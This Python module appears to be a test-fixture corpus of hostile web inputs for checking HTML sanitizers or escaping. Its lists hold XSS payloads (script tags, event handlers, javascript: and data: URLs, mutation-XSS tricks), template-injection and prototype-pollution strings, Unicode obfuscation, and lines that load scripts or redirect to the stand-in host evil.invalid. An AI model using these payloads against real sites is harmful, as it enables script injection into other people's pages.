"""Text that means harm to a page: markup, handlers, addresses, templates, Unicode. Each would call `pwned()`."""

from __future__ import annotations

MARKUP = [
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</title></style></textarea></noscript><script src=//evil.invalid/x.js></script>",
    "<img src=x onerror=pwned()>",
    '"><img src="http://evil.invalid/pixel.gif" onerror="pwned()">',
    "'><svg/onload=pwned()>",
    "<svg><script href='data:text/javascript,pwned()'/></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()>",
    "<object data=javascript:pwned()><embed src=javascript:pwned()>",
    "<body onload=pwned()><details open ontoggle=pwned()><summary>x",
    "<input autofocus onfocus=pwned()><video><source onerror=pwned()></video>",
    "<a href=javascript:pwned()>click</a><a href='jav&#x09;ascript:pwned()'>click</a>",
    "<form action=javascript:pwned()><button formaction=javascript:pwned()>x</button></form>",
    "<link rel=stylesheet href=http://evil.invalid/x.css><style>@import 'http://evil.invalid/y.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'><base href=http://evil.invalid/>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<template><script>pwned()</script></template><slot onslotchange=pwned()>",
    "<!--<img src='--><img src=x onerror=pwned()>'>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<div style='background:url(http://evil.invalid/b.png)' onclick=pwned()>x</div>",
]
ADDRESSES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "\x01javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "//evil.invalid/x",
    "../../../evil",
]
TEMPLATES = [
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "`${pwned()}`",
    "#{pwned()}",
    "<%= pwned() %>",
    "'-pwned()-'",
    '"-pwned()-"',
    "\\';pwned();//",
    '{"__proto__": {"polluted": true}}',
]
UNICODE = [
    "\u202e<script>pwned()</script>",
    "\u2028pwned()\u2029",
    "\u0000<img src=x onerror=pwned()>",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "<scr\u200bipt>pwned()</scr\u200bipt>",
    "\ufeff<img src=x onerror=pwned()>",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "a\u0301" * 60,
    "\u2066\u2067\u2068" * 20 + "Item Purchased",
    "\U0001f4a9" * 40,
    "\u0130\u0131\u212a<img src=x onerror=pwned()>",
]
NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "innerHTML", "onclick", "style", "href"]

CORPUS = [*MARKUP, *ADDRESSES, *TEMPLATES, *UNICODE, *NAMES]
